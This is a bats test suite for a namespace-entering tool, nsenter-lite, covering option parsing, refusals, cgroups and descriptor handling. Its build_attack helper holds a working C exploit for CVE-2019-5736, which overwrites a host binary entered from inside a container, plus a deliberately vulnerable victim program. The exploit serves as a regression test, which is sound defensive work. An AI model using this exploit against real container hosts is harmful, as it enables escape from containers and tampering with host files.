#!/usr/bin/env bats
# Not tested here, see CAUSES: a full cgroup of version 2 (NSE-40), which needs
# a kernel of its own.
load helper

# box: process 1 of a container that has its own of every kind but time; its
# root is the root of the user who runs the test.
box() {
	spawn unshare -fUrmpinuC --mount-proc sleep 1000
	box=$(child_of "$pid")
	eventually sleeps "$box"
}

# contain OPTION...: the same without fork, as $pid.
contain() {
	spawn unshare "$@" sleep 1000
	eventually sleeps "$pid"
}

sleeps() {
	[[ $(cat "/proc/$1/comm") = sleep ]]
}

ns() {
	local kind
	for kind in "${@:2}"; do
		readlink "/proc/$1/ns/$kind"
	done
}

# A program that loses a right, then runs another; closed: that is not dumpable.
build_with() {
	cat >with.c <<-'END'
		#include <errno.h>
		#include <linux/filter.h>
		#include <linux/seccomp.h>
		#include <stddef.h>
		#include <stdlib.h>
		#include <string.h>
		#include <sys/prctl.h>
		#include <sys/syscall.h>
		#include <unistd.h>
		int main(int argc, char **argv)
		{
			unsigned long handled = 1 << 11;
			int call = !strcmp(argv[1], "setns") ? SYS_setns :
			    !strcmp(argv[1], "memfd") ? SYS_memfd_create : SYS_pidfd_open;
			struct sock_filter f[] = {
				{ BPF_LD | BPF_W | BPF_ABS, 0, 0, 0 },
				{ BPF_JMP | BPF_JEQ | BPF_K, 0, 1, call },
				{ BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ERRNO | EPERM },
				{ BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW },
			};
			struct sock_fprog p = { 4, f };
			prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
			if (strcmp(argv[1], "closed") == 0) {
				prctl(PR_SET_DUMPABLE, 0);
				pause();
			}
			if (strcmp(argv[1], "landlock") == 0) {
				int fd = syscall(444, &handled, sizeof handled, 0);
				if (fd < 0 || syscall(446, fd, 0))
					return 99;
			} else if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p)) {
				return 99;
			}
			execvp(argv[2], argv + 2);
			return 98;
		}
	END
	"${CC:-musl-gcc}" -idirafter /usr/include -idirafter "/usr/include/$(uname -m)-linux-gnu" \
		-static -o with with.c
}

@test "what cannot be understood is refused with the synopsis" {
	misused nsenter-lite
	misused nsenter-lite true
	misused nsenter-lite -m true
	misused nsenter-lite -a true
	misused nsenter-lite -r true
	misused nsenter-lite -t $$ true
	misused nsenter-lite -t x -a true
	misused nsenter-lite -t 0 -a true
	misused nsenter-lite -t -1 -a true
	misused nsenter-lite -t '' -a true
	misused nsenter-lite -t $$ -mx true
	misused nsenter-lite -t $$ -a -S x true
	misused nsenter-lite -t $$ -a -G 4294967295 true
	misused nsenter-lite -t $$ -a --keep-fd=x true
	misused nsenter-lite -x
	misused nsenter-lite -t
	works nsenter-lite --help
	shows '^usage: nsenter-lite '
	(( $(wc -l <<<"$stdout") <= 24 ))
	works nsenter-lite -V
	shows '^cooperage [0-9]'
	fails 125 sh -c 'nsenter-lite --help >/dev/full'
}

@test "a handle on standard input is refused, and the try shows the other way" {
	refused sh -c 'echo 1 | nsenter-lite -t - -a sh'
	says '\$\(unshare-lite '
	fails 125 sh -c 'echo 1 | nsenter-lite -t- -a'
	remedy=${stderr##*try: }
	works sh -c "$remedy sh -c 'echo \$\$'"
	shows '^[0-9]+$'
}

@test "-a enters every kind in which the target differs, and no other" {
	box
	works nsenter-lite -t "$box" -a sh -c 'cd /proc/self/ns; for k in user mnt uts ipc net pid cgroup; do readlink $k; done'
	prints "$(ns "$box" user mnt uts ipc net pid cgroup)"
	silent
	contain -Uru
	works nsenter-lite -v -t "$pid" -a readlink /proc/self/ns/uts
	prints "$(ns "$pid" uts)"
	says 'setns\([0-9]+, CLONE_NEWUSER\|CLONE_NEWUTS\) = 0$'
	works nsenter-lite -v -t $$ -a true
	never_says 'setns'
}

@test "letters in a cluster are kinds, in any order, and -c may be among them" {
	box
	for letters in -muinpUC -nmuiCpU -Umuinp -Unpium; do
		works nsenter-lite -t "$box" "$letters" readlink /proc/self/ns/net
		prints "$(ns "$box" net)"
	done
	works nsenter-lite -v -t "$box" -Uun true
	says 'setns\([0-9]+, CLONE_NEWUSER\|CLONE_NEWUTS\|CLONE_NEWNET\) = 0'
	works nsenter-lite "-t$box" -Umc true
	works nsenter-lite -act "$box" true
	works nsenter-lite -t "$box" --user --mount --uts --ipc --net --pid --cgroup true
}

@test "a FILE has a slash after a letter, and -t may then be left out" {
	box
	works nsenter-lite "-U/proc/$box/ns/user" "--net=/proc/$box/ns/net" readlink /proc/self/ns/net
	prints "$(ns "$box" net)"
	cd "/proc/$box/ns"
	works nsenter-lite -U./user --uts=uts readlink /proc/self/ns/uts
	prints "$(ns "$box" uts)"
	works nsenter-lite -n./net -t "$box" -Uu true
	cd "$W"
	works nsenter-lite -t "$box" -a "--uts=/proc/$box/ns/uts" readlink /proc/self/ns/uts
	prints "$(ns "$box" uts)"
	misused nsenter-lite -mkeep true
	fails 125 nsenter-lite -n/no/such true
	says ENOENT
}

# bats test_tags=root
@test "a user namespace is entered last by who has the rights outside" {
	contain -n
	net=$pid
	contain -U
	works nsenter-lite -v "-U/proc/$pid/ns/user" "-n/proc/$net/ns/net" readlink /proc/self/ns/net
	prints "$(ns "$net" net)"
	works nsenter-lite -t "$pid" -U "-n/proc/$net/ns/net" readlink /proc/self/ns/net
	prints "$(ns "$net" net)"
}

@test "-nNAME is /run/netns/NAME, and what could be letters as well is refused" {
	inside -n <<-'END'
		mount -t tmpfs tmpfs /run
		mkdir /run/netns
		for name in lab up 'a b' c; do
			: >"/run/netns/$name"
			unshare -n mount --bind --make-private /proc/self/ns/net "/run/netns/$name" ||
				unshare -n sh -c 'mount --bind /proc/$$/ns/net "$1"' sh "/run/netns/$name"
		done
		for name in lab 'a b' c; do
			works nsenter-lite "-n$name" sh -c 'stat -Lc %i /proc/self/ns/net'
			prints "$(stat -Lc %i "/run/netns/$name")"
		done
		works nsenter-lite --net=up true
		refused nsenter-lite -t $$ -nup true
		because NSE-44
		try_works
		refused nsenter-lite -nnosuch true
		says /run/netns/nosuch
		because NSE-47
		refused nsenter-lite "-nno such" true
		try_works
		: >/run/netns/left
		refused nsenter-lite -nleft true
		because NSE-12
		refused nsenter-lite "-n$(printf '%0300d' 0)" true
	END
}

@test "because: the FILE is no namespace, or one of another kind, and the try works" {
	: >plain
	refused nsenter-lite -n./plain true
	because NSE-01
	contain -Uru
	refused nsenter-lite "-U/proc/$pid/ns/user" "-n/proc/$pid/ns/uts" true
	because NSE-02
	try_works
	(( EUID )) || {
		ln -s /proc/self/ns/uts "a b,c:d\\e"
		works nsenter-lite "-u./a b,c:d\\e" true
	}
}

@test "PROG gets its arguments, its name in PATH, its environment and status" {
	box
	HELLO=there works nsenter-lite -t "$box" -a sh -c 'printf "<%s>" "$HELLO" "$@"' -k 'a b' '' '*'
	prints '<there><a b><><*>'
	fails 7 nsenter-lite -t "$box" -a sh -c 'exit 7'
	fails 7 nsenter-lite -t "$box" -Un -- sh -c 'exit 7'
	fails 143 nsenter-lite -t "$box" -a sh -c 'kill -TERM $$'
	fails 127 nsenter-lite -t "$box" -a nosuch
	says '^nsenter-lite: exec .nosuch.: '
	fails 126 nsenter-lite -t "$box" -a /proc
	works sh -c "echo hello | nsenter-lite -t $box -a cat"
	prints hello
	works nsenter-lite -t "$box" -a grep -E '^Sig(Blk|Ign)' /proc/self/status
	prints "$(sh -c "grep -E '^Sig(Blk|Ign)' /proc/self/status" 3>&- 4>&-)"
	works nsenter-lite -t "$box" -a sh -c 'echo $(ls /proc/self/fd)'
	prints '0 1 2 3'
}

@test "without PROG it is the shell, or /bin/sh where that is missing inside" {
	box
	SHELL=/bin/echo works nsenter-lite -t "$box" -a
	prints ''
	SHELL=/no/such works sh -c "echo 'echo \$0' | nsenter-lite -t $box -a"
	prints /bin/sh
	unset SHELL
	works sh -c "echo 'echo \$0' | nsenter-lite -t $box -a"
	prints /bin/sh
}

@test "PROG is looked up inside" {
	mkdir -p r/bin r/proc
	cp "$(command -v busybox)" r/bin/busybox
	printf '#!/bin/busybox sh\necho inside\n' >r/bin/only
	chmod 755 r/bin/only
	spawn unshare -Urm sh -c 'mount --rbind /proc r/proc; exec chroot r /bin/busybox sleep 1000'
	eventually test "/proc/$pid/root" -ef r
	fails 127 nsenter-lite -t "$pid" -ar ls
	works nsenter-lite -t "$pid" -ar only
	prints inside
	works nsenter-lite -t "$pid" -ar /bin/only
	# A path in there is no word for who pastes a command out here.
	printf '#!/bin/busybox\r\n' >r/crlf
	printf '#!busybox\n' >r/bare
	printf ' #!/bin/busybox\n' >r/blank
	chmod 755 r/crlf r/bare r/blank
	cp r/bare r/plain
	chmod 644 r/plain
	for prog in crlf:PID-28 bare:PID-29 blank:PID-36 plain:PID-03; do
		capture nsenter-lite -t "$pid" -ar "/${prog%:*}"
		because "${prog#*:}"
		never_says 'try: '
	done
}

@test "a user namespace makes PROG root there, without the caller's groups where it may drop them" {
	box
	works nsenter-lite -t "$box" -a id -u
	prints 0
	works nsenter-lite -t "$box" -a grep CapEff /proc/self/status
	[[ ! $stdout = *0000000000000000* ]]
	works nsenter-lite -v -t "$box" -U sh -c 'id -u; id -g'
	prints $'0\n0'
	(( EUID == 0 )) || says 'setgroups\(2\) is denied there'
	works nsenter-lite -t "$box" -U --preserve-credentials sh -c 'grep Groups /proc/self/status'
	prints "$(grep Groups /proc/self/status)"
}

# bats test_tags=root
@test "the groups of root stay outside, even where setgroups(2) is denied inside" {
	contain -Ur
	[[ $(cat "/proc/$pid/setgroups") = deny ]]
	works setpriv --groups 4,5 nsenter-lite -t "$pid" -U grep ^Groups /proc/self/status
	[[ ! $stdout = *[0-9]* ]]
	works setpriv --groups 4,5 nsenter-lite -t "$pid" -U --preserve-credentials grep ^Groups /proc/self/status
	[[ $stdout = *65534* ]]
	works setpriv --groups 4,5 nsenter-lite -t "$pid" -u -S 1000 -G 1001 grep -E '^(Uid|Gid|Groups)' /proc/self/status
	prints $'Uid:\t1000\t1000\t1000\t1000\nGid:\t1001\t1001\t1001\t1001\nGroups:\t '
}

# bats test_tags=root
@test "root enters the container of an ordinary user, and one in that" {
	spawn setpriv --reuid 1000 --regid 1000 --clear-groups unshare -fUrmpn --mount-proc \
		sh -c 'unshare -fUrmpu --mount-proc sleep 1000 & exec sleep 1001'
	outer=$(child_of "$pid")
	inner=$(child_of "$(child_of "$outer")")
	eventually sleeps "$inner"
	eventually sleeps "$outer"
	works nsenter-lite -t "$outer" -a sh -c "id -u; touch $W/made"
	prints 0
	[[ $(stat -c %u made) = 1000 ]]
	works nsenter-lite -t "$inner" -a sh -c 'id -u; readlink /proc/self/ns/uts /proc/self/ns/net'
	prints "0
$(ns "$inner" uts net)"
	as_user nsenter-lite -t "$inner" -a true
	works nsenter-lite -t "$outer" -a sh -c 'nsenter-lite -t $(pgrep -fx "sleep 1000") -a readlink /proc/self/ns/uts'
	prints "$(ns "$inner" uts)"
}

@test "where 0 is not mapped the caller's ID stays, and -S takes one that is" {
	contain -U
	eventually sh -c "echo 5 $(id -u) 1 >/proc/$pid/uid_map"
	works nsenter-lite -v -t "$pid" -U id -u
	prints 5
	says 'NSE-38'
	works nsenter-lite -t "$pid" -U -S 5 id -u
	prints 5
	refused nsenter-lite -t "$pid" -U -S 7 true
	because NSE-15
	refused nsenter-lite -t "$pid" -U -G 7 true
	because NSE-15
}

# bats test_tags=user
@test "because: another ID needs a capability" {
	refused nsenter-lite -t $$ -w -S 0 true
	says supplementary
	because NSE-45
	never_says 'try: '
	refused nsenter-lite -t $$ -w --preserve-credentials -S 0 true
	because NSE-45
	refused nsenter-lite -r/ true
	because NSE-45
	refused unshare -Ur nsenter-lite -r/ -S 0 true
	because NSE-49
	try_works unshare -Ur
}

@test "-r takes the target's root and -w its folder; a chrooted target is named" {
	mkdir -p r/bin r/sub
	cp "$(command -v busybox)" r/bin/busybox
	spawn unshare -Urm sh -c 'cd r/sub; exec unshare --root=.. --wd=/sub /bin/busybox sleep 1000'
	eventually grep -q busybox "/proc/$pid/cmdline"
	eventually test "/proc/$pid/root" -ef r
	works nsenter-lite -t "$pid" -ar /bin/busybox pwd
	prints /
	silent
	works nsenter-lite -t "$pid" -a -r -w /bin/busybox pwd
	prints /sub
	works nsenter-lite -t "$pid" -a -r -w/bin /bin/busybox pwd
	prints /bin
	works nsenter-lite "-U/proc/$pid/ns/user" "-r$W/r" /bin/busybox ls /
	prints $'bin\nsub'
	works nsenter-lite -t "$pid" -a /bin/busybox true 2>&1 || works nsenter-lite -t "$pid" -a true
	because NSE-35
	try_works
}

@test "after -m the folder is the root of the mount namespace" {
	contain -Urm
	works nsenter-lite -t "$pid" -Um pwd
	prints /
	works nsenter-lite -t "$pid" -U pwd
	prints "$W"
	works nsenter-lite -t "$pid" -Um "-w$W" pwd
	prints "$W"
	fails 125 nsenter-lite -t "$pid" -Um -w/no/such pwd
	says ENOENT
	fails 125 nsenter-lite -t "$pid" -U -r/no/such pwd
	says ENOENT
}

@test "a PID namespace without its /proc is named, and the try works" {
	box
	works nsenter-lite -t "$box" -Up sh -c 'echo $$'
	shows '^[0-9]{1,2}$'
	because NSE-36
	try_works
	never_says NSE
}

# bats test_tags=root
@test "-c joins every cgroup in which the target differs, and the parent stays outside" {
	contain -u
	while read -r dir; do
		[[ $dir = *cpuset* ]] && continue
		mkdir "$dir/$CG" 2>/dev/null && echo "$pid" >"$dir/$CG/cgroup.procs" && made+=("$dir/$CG")
	done < <(sed -n 's,^[^ ]* [^ ]* [^ ]* / \(/sys/fs/cgroup[^ ]*\) .* - cgroup2* .*,\1,p' /proc/self/mountinfo)
	needs 'a cgroup hierarchy that can be written' grep "$CG" "/proc/$pid/cgroup"
	works nsenter-lite -t "$pid" -c cat /proc/self/cgroup
	prints "$(cat "/proc/$pid/cgroup")"
	works nsenter-lite -t "$pid" -c sh -c 'cat /proc/$PPID/cgroup'
	prints "$(cat /proc/self/cgroup)"
	spawn sh -c 'for dir; do echo $$ >$dir/cgroup.procs; done; exec unshare -Cu sleep 1000' sh "${made[@]}"
	eventually sleeps "$pid"
	works nsenter-lite -v -t "$pid" -ac cat /proc/self/cgroup
	[[ ! $stdout = *"$CG"* ]]
	[[ ! -e ${made[0]}/cgroup.type && ! -e ${made[-1]}/cgroup.type ]] || says 'clone3\(\{flags=CLONE_INTO_CGROUP'
	works nsenter-lite -t "$pid" -c cat /proc/self/cgroup
	prints "$(cat "/proc/$pid/cgroup")"
	as_user "$BIN/nsenter-lite" -t "$pid" -c true 2>err || stderr=$(cat err)
	because CG1-17 || because CG2-28
	leave_cgroups
}

leave_cgroups() {
	for pid in "${spawned[@]}"; do
		end "$pid" || :
	done
	eventually eval '! find /sys/fs/cgroup -depth -type d -name "$CG" -exec rmdir {} \; 2>&1 | grep .'
}

# bats test_tags=root
@test "the folder of a cgroup that is joined leads nobody out" {
	unified=$(sed -n 's,^[^ ]* [^ ]* [^ ]* / \([^ ]*\) .* - cgroup2 .*,\1,p' /proc/self/mountinfo)
	box
	needs 'a cgroup of version 2' mkdir "$unified/$CG"
	echo "$box" >"$unified/$CG/cgroup.procs"
	works nsenter-lite -v -t "$box" -ac true
	says '^nsenter-lite: (clone3|write)\('
	for fd in 3 4 5 6 7 8 9 10 11; do
		ln -sfn "/proc/self/fd/$fd" out
		fails 125 nsenter-lite -t "$box" -ac "-w$W/out" true
	done
	leave_cgroups
}

# bats test_tags=root
@test "because: the cgroup is frozen, which would hang, or has no name here" {
	cgroup=$(sed -n 's,^[^ ]* [^ ]* [^ ]* / \([^ ]*\) .* - cgroup .*freezer.*,\1,p' /proc/self/mountinfo)
	unified=$(sed -n 's,^[^ ]* [^ ]* [^ ]* / \([^ ]*\) .* - cgroup2 .*,\1,p' /proc/self/mountinfo)
	contain -u
	for dir in $cgroup $unified; do
		mkdir "$dir/$CG" || skip 'needs a cgroup hierarchy that can be written'
		echo "$pid" >"$dir/$CG/cgroup.procs"
	done
	[[ ! $cgroup ]] || {
		echo FROZEN >"$cgroup/$CG/freezer.state"
		refused timeout 5 nsenter-lite -t "$pid" -c true
		because NSE-39
		try_works
		works timeout 5 nsenter-lite -t "$pid" -c true
	}
	[[ ! $unified ]] || {
		echo 1 >"$unified/$CG/cgroup.freeze"
		eventually grep -q 'frozen 1' "$unified/$CG/cgroup.events"
		refused timeout 5 nsenter-lite -t "$pid" -c true
		because NSE-39
		try_works
		refused unshare -m sh -c "echo \$\$ >$unified/$CG/cgroup.procs; umount $unified
			exec unshare -C sh -c 'mount -t cgroup2 cgroup2 $unified; exec nsenter-lite -t $$ -c true'"
		because NSE-41
		refused unshare -m sh -c "umount -l ${cgroup:-$unified}; nsenter-lite -t $pid -c true"
		because NSE-43
		refused unshare -m sh -c "mount --bind /proc ${cgroup:-$unified}; nsenter-lite -t $pid -c true"
		because NSE-43
	}
	leave_cgroups
}

@test "because: the process is not there, or has no namespaces any more" {
	refused nsenter-lite -t 4194303 -a true
	because NSE-10
	spawn sh -c 'sleep 0 & exec sleep 1000'
	zombie=$(child_of "$pid")
	eventually grep -q '^State:.Z' "/proc/$zombie/status"
	refused nsenter-lite -t "$zombie" -U true
	because NSE-11
}

# bats test_tags=root
@test "because: the process is somebody else's, and the try asks root" {
	contain -n
	for words in -n -a; do
		refused as_user nsenter-lite -t "$pid" $words readlink /proc/self/ns/net
		because NSE-06
		root_works
		prints "$(ns "$pid" net)"
	done
	refused as_user nsenter-lite "-n/proc/$pid/ns/net" readlink /proc/self/ns/net
	because NSE-06
	root_works
	prints "$(ns "$pid" net)"
}

# bats test_tags=user
@test "because: the process is somebody else's, or not dumpable" {
	refused nsenter-lite -t 1 -n true
	because NSE-06
	refused nsenter-lite -t 1 -a true
	because NSE-06
	refused nsenter-lite -n/proc/1/ns/net true
	because NSE-06
	mkdir -m 0 closed
	refused nsenter-lite "-n$W/closed/net" true
	because NSE-48
	build_with
	spawn ./with closed
	eventually eval '[[ $(stat -c %u "/proc/$pid/status") = 0 ]]'
	refused nsenter-lite -t "$pid" -a true
	because NSE-27
}

@test "because: a user namespace must be entered, too, or not again" {
	if (( EUID )); then
		contain -Urn
		refused nsenter-lite -t "$pid" -n true
		because NSE-07
		try_works
		refused nsenter-lite "-n/proc/$pid/ns/net" true
		because NSE-07
		never_says 'try: '
	fi
	refused nsenter-lite -t $$ -U true
	because NSE-03
	try_works
	contain -Uru
	works nsenter-lite -t "$pid" -a true
	refused nsenter-lite -t $$ -Uu true
	because NSE-03
	try_works
}

# bats test_tags=user
@test "because: a namespace that is ours, but we have no capability over it" {
	refused nsenter-lite -n/proc/self/ns/net true
	because NSE-08
	refused bash -c 'unshare -Ur nsenter-lite -n/proc/self/fd/9 true 9</proc/self/ns/net'
	because NSE-46
}

@test "because: a user namespace above ours" {
	refused bash -c 'unshare -Ur nsenter-lite -U/proc/self/fd/9 true 9</proc/self/ns/user'
	because NSE-46
}

# bats test_tags=root
@test "because: capabilities that the target has, or the kind wants" {
	contain -um
	refused setpriv --bounding-set -sys_ptrace,-net_raw --inh-caps -sys_ptrace,-net_raw nsenter-lite -t "$pid" -u true
	because NSE-26
	refused setpriv --bounding-set -setgid nsenter-lite -r/ -S 0 true
	because NSE-45
	try_works setpriv --bounding-set -setgid
	refused setpriv --bounding-set -sys_chroot nsenter-lite "-m/proc/$$/ns/mnt" true
	because NSE-09
	: >pin
	inside <<-END
		unshare -U --setgroups=deny true
		setpriv --reuid 1001 --regid 1001 --clear-groups unshare -Ur sleep 1000 &
		eventually eval '[[ \$(cat /proc/\$!/comm) = sleep ]]'
		mount --bind /proc/\$!/ns/user pin
		refused setpriv --reuid 1000 --regid 1000 --clear-groups nsenter-lite -U./pin true
		because NSE-29
		kill \$!
	END
}

@test "because: what lies in a user namespace of ours is ours, whoever made it" {
	needs 'subordinate IDs' unshare -Ur --map-auto true
	spawn as_user unshare-lite -r --map-auto setpriv --reuid 5 --regid 5 --clear-groups unshare -Un sleep 1000
	eventually sleeps "$pid"
	works as_user nsenter-lite -t "$pid" -Un true
	refused as_user nsenter-lite -t "$pid" -Uu true
	because NSE-08
	never_says NSE-29
	refused as_user nsenter-lite -t "$pid" -n true
	because NSE-07
	try_works as_user
}

@test "because: no more processes" {
	spawn as_user unshare -Urpf sleep 1000
	box=$(child_of "$pid")
	eventually sleeps "$box"
	refused as_user prlimit --nproc=1 nsenter-lite -t "$box" -Up true
	says EAGAIN
	because UNS-41
}

@test "because: the PID namespace is above ours, or beside it, or dead" {
	box
	if (( EUID == 0 )); then
		refused bash -c 'unshare -pf --mount-proc nsenter-lite -p/proc/self/fd/9 true 9</proc/self/ns/pid'
		because NSE-04
		refused bash -c "unshare -pf --mount-proc nsenter-lite -p/proc/self/fd/9 true 9</proc/$box/ns/pid"
		because NSE-05 || { ! since 6 11 && says 'above or beside ours.*NSE-04'; }
	else
		refused bash -c 'unshare -Urpmf --mount-proc nsenter-lite -p/proc/self/fd/9 true 9</proc/self/ns/pid'
		because NSE-46
	fi
	refused bash -c "exec 9</proc/$box/ns/pid 8</proc/$box/ns/user; kill -KILL $box
		while [[ -e /proc/$box ]]; do sleep 0.05; done
		exec nsenter-lite -U/proc/self/fd/8 -p/proc/self/fd/9 true"
	because NSE-30 || { ! since 6 11 && says 'fork: .*ENOMEM'; }
}

@test "because: a filter, or Landlock, stands before it" {
	build_with
	contain -Uru
	refused ./with setns nsenter-lite -t "$pid" -a true
	because NSE-20
	build restrict
	refused ./restrict 4000000 nsenter-lite -t "$pid" -a true
	says 'setns\(2\) with CLONE_NEWUSER\|CLONE_NEWUTS \[NSE-20\]$'
	refused ./restrict 4000000 nsenter-lite -t "$pid" -U "-u/proc/$pid/ns/uts" true
	says 'setns\(2\) with CLONE_NEWUTS \[NSE-20\]$'
	works ./restrict 20000 nsenter-lite -t "$pid" -a true
	refused ./with pidfd nsenter-lite -t "$pid" -a true
	because TGT-01
	refused ./with landlock nsenter-lite -t "$pid" -a true
	because NSE-28
	works ./with memfd nsenter-lite -v -t "$pid" -a true
	says 'O_TMPFILE'
	refused unshare -Urm sh -c "mount -t tmpfs tmpfs /mnt; cp with '$BIN/nsenter-lite' /mnt; cd /mnt
		for dir in /var/tmp /dev/shm /run /tmp; do mount -t tmpfs -o noexec tmpfs \$dir; done
		exec ./with memfd ./nsenter-lite -r/ true"
	because NSE-33
}

# bats test_tags=static
@test "because: /proc is missing, or shows other processes" {
	box
	inside <<-END
		mount -t tmpfs tmpfs /proc
		refused nsenter-lite -t $box -a true
		because NSE-34
		umount /proc
		refused unshare -pf nsenter-lite -t 1 -a true
		because NSE-17
	END
}

@test "because: our program cannot be read, and so not be copied" {
	cp "$BIN/nsenter-lite" .
	chmod 111 nsenter-lite
	refused as_user ./nsenter-lite -r/ true
	says EACCES
	because NSE-50
}

# bats test_tags=root
@test "because: /proc hides the process of another" {
	contain -u
	inside <<-END
		mount -t proc -o hidepid=2 proc /proc
		refused setpriv --reuid 1000 --regid 1000 --clear-groups nsenter-lite -t $pid -u true
		because NSE-18
	END
}

# bats test_tags=root
@test "where memory may not be executed the copy is a file without a name, or nothing is done" {
	needs 'vm.memfd_noexec' test -e /proc/sys/vm/memfd_noexec
	cp "$BIN/nsenter-lite" .
	works unshare -Urpf --mount-proc sh -c 'echo 1 >/proc/sys/vm/memfd_noexec || exit 77
		./nsenter-lite -t $$ -w readlink /proc/self/ns/pid'
	works unshare -Urmpf --mount-proc sh -c 'echo 2 >/proc/sys/vm/memfd_noexec
		./nsenter-lite -v -t $$ -w true'
	says 'O_TMPFILE'
	refused unshare -Urmpf --mount-proc sh -c 'echo 2 >/proc/sys/vm/memfd_noexec
		mount -t tmpfs tmpfs /mnt; cp nsenter-lite /mnt; cd /mnt
		for dir in /var/tmp /dev/shm /run /tmp; do mount -t tmpfs -o noexec tmpfs $dir; done
		exec ./nsenter-lite -t $$ -w true'
	because NSE-31
}

@test "where no file may be written, there is no copy [NSE-51]" {
	refused sh -c 'ulimit -f 0; exec nsenter-lite -t $$ -w true'
	because NSE-51
	works sh -c 'ulimit -f 100000; nsenter-lite -t $$ -w grep SigIgn /proc/self/status'
	prints "$(grep SigIgn /proc/self/status)"
}

@test "no other descriptor reaches PROG, and none of ours by --keep-fd" {
	contain -Uru
	works bash -c "nsenter-lite -t $pid -a ls /proc/self/fd 7</ 9</dev/null"
	prints $'0\n1\n2\n3'
	works bash -c "nsenter-lite --keep-fd=7 -t $pid -a sh -c 'cat <&7' 7<<<hello"
	prints hello
	refused nsenter-lite --keep-fd=3 -t "$pid" -a true
	says EBADF
	misused sh -c "nsenter-lite -t $pid -a true </"
	works sh -c "nsenter-lite -t $pid -a readlink /proc/self/fd/0 <&-"
	prints /dev/null
	works sh -c "nsenter-lite -t $pid -a true >&- 2>&-"
}

# bats test_tags=static
@test "no folder that the caller has open leads out, by the folder or by PROG" {
	mkdir -p r/bin r/proc
	cp "$(command -v busybox)" r/bin/busybox
	ln -s busybox r/bin/true
	ln -s "/proc/self/fd/9$W" r/way
	ln -s "/proc/self/fd/9$BIN/pid1" r/prog
	printf '#!/proc/self/fd/9%s -V\n' "$BIN/pid1" >r/script
	chmod 755 r/script
	spawn unshare -Urm sh -c 'mount --rbind /proc r/proc; exec chroot r /bin/busybox sleep 1000'
	eventually test "/proc/$pid/root" -ef r
	enter() { sh -c "exec nsenter-lite -t $pid -ar --keep-fd=$* 8</dev/null 9</"; }
	for keep in 0 0,8; do
		fails 125 enter $keep -w/way true
		says ENOENT
		fails 127 enter $keep /prog -V
		fails 126 enter $keep /script
	done
	works enter 9 /script
}

# A container's root looks at whoever enters, opens what he executes and, when
# that has ended, writes it: CVE-2019-5736.
build_attack() {
	cat >attack.c <<-'END'
		#include <dirent.h>
		#include <fcntl.h>
		#include <stdio.h>
		#include <stdlib.h>
		#include <string.h>
		#include <unistd.h>
		int main(int argc, char **argv)
		{
			char path[300], name[300];
			int fd, n, out = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0666);
			for (;;) {
				DIR *d = opendir("/proc");
				struct dirent *e;
				while ((e = readdir(d))) {
					if (atoi(e->d_name) <= 1 || atoi(e->d_name) == getpid())
						continue;
					snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
					if ((fd = open(path, O_RDONLY)) < 0)
						continue;
					snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
					n = readlink(path, name, sizeof name - 2);
					name[n > 0 ? n : 0] = '\n';
					if (memmem(name, n, "nsenter-", 8)) {
						write(out, name, n + 1);
						for (n = 0; n < 2000; n++) {
							int w = open(path, O_WRONLY);
							if (w >= 0) {
								write(w, "PWNED", 5);
								close(w);
								break;
							}
							usleep(500);
						}
					}
					close(fd);
				}
				closedir(d);
			}
		}
	END
	cat >victim.c <<-'END'
		#define _GNU_SOURCE
		#include <fcntl.h>
		#include <sched.h>
		#include <stdlib.h>
		#include <string.h>
		#include <sys/syscall.h>
		#include <sys/wait.h>
		#include <unistd.h>
		int main(int argc, char **argv)
		{
			int flags = CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID, fd;
			if (strcmp(argv[1], "-x") == 0) {
				usleep(300000);
				return 0;
			}
			fd = syscall(434, atoi(argv[1]), 0);
			if (setns(fd, flags) < 0)
				return 99;
			if (fork() == 0) {
				close(fd);
				execv(argv[2], argv + 2);
				_exit(98);
			}
			wait(&fd);
			return WEXITSTATUS(fd);
		}
	END
	"${CC:-musl-gcc}" -static -o nsenter-victim victim.c
	"${CC:-musl-gcc}" -D_GNU_SOURCE -static -o attack attack.c
}

@test "what runs inside reaches no file of the host, not even by #!/proc/self/exe" {
	build_attack
	box
	cp "$BIN/nsenter-lite" nsenter-mine
	cp nsenter-mine before
	cp nsenter-victim before-victim
	printf '#!/proc/self/exe -x\n' >loop
	printf '#!/proc/self/exe -r/\n' >loop-lite
	chmod 755 loop loop-lite
	spawn nsenter-lite -t "$box" -a "$W/attack" "$W/seen"

	# That the attack is one: who enters without care falls.
	works ./nsenter-victim "$box" "$W/loop"
	eventually eval '! cmp -s nsenter-victim before-victim'

	: >seen
	timeout 0.5 ./nsenter-mine -t "$box" -a "$W/loop-lite" 2>/dev/null || :
	eventually grep -q memfd seen
	cmp nsenter-mine before
	[[ $(<seen) != */nsenter-* ]]

	for _ in 1 2 3 4 5 6 7 8 9 10; do
		./nsenter-mine -t "$box" -a true
	done
	cmp nsenter-mine before
}

@test "until PROG is executed whoever enters is closed to what runs inside" {
	build_attack
	box
	spawn nsenter-lite -t "$box" -a "$W/attack" "$W/seen"
	eventually test -e seen
	works strace -f -o trace -e trace=execve -e inject=execve:delay_enter=100000 \
		nsenter-lite -t "$box" -a true
	grep -q 'memfd\|/proc/self/fd' trace
	[[ ! -s seen ]]
}

@test "signals reach PROG, and it ends as PROG ended" {
	box
	cat >prog <<-'END'
		trap 'echo term; exit 5' TERM
		echo ready
		while :; do sleep 0.05; done
	END
	nsenter-lite -t "$box" -a sh "$W/prog" >out 3>&- 4>&- &
	eventually grep -q ready out
	kill -TERM $!
	status=0
	wait $! || status=$?
	(( status == 5 ))
	grep -q term out
	works tty_run nsenter-lite -t "$box" -a tty
}

@test "a signal at any moment leaves nothing, and after SIGKILL it works again" {
	box
	for delay in 0 0.0003 0.0006 0.001 0.0015 0.002 0.003; do
		for signal in TERM KILL INT; do
			nsenter-lite -t "$box" -a true 3>&- 4>&- &
			sleep "$delay"
			kill "-$signal" $! 2>/dev/null || :
			wait $! || :
		done
	done
	works nsenter-lite -t "$box" -a true
}

@test "each system call may fail: right status, a message, nothing left" {
	box
	for call in open memfd_create sendfile fcntl pidfd_open setns prctl setresuid fork rt_sigprocmask close_range readlink stat statfs execve; do
		for n in 1 2 3 4; do
